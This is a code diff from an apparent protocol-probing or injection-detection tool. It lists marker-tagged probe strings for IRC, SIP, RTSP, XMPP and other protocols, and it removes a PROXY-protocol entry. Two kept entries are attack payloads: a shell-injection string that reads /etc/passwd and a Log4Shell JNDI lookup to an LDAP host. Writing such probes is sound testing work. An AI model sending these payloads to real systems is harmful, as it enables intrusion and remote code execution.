@@ -26,7 +26,6 @@ internal static class OtherProtocols
         ("IRC", "NICK {mark}\r\nUSER {mark} 0 * :{mark}\r\n", ["NICK {mark}", "USER {mark} 0 * :{mark}"]),
         ("SIP", "INVITE sip:{mark} SIP/2.0\r\n", ["INVITE sip:{mark} SIP/2.0"]),
         ("RTSP", "DESCRIBE rtsp://{mark}/ RTSP/1.0\r\n", ["DESCRIBE rtsp://{mark}/ RTSP/1.0"]),
-        ("the PROXY protocol", "PROXY TCP4 127.0.0.1 {mark} 1 2\r\n", ["PROXY TCP4 127.0.0.1 {mark} 1 2"]),
         ("XMPP", "<stream:stream to='{mark}'>\n", ["<stream:stream to='{mark}'>"]),
         ("a shell", "id; cat /etc/passwd; echo {mark}\n", ["id; cat /etc/passwd; echo {mark}"]),
         ("log4j", "${jndi:ldap://{mark}/a}\n", ["${jndi:ldap://{mark}/a}"]),
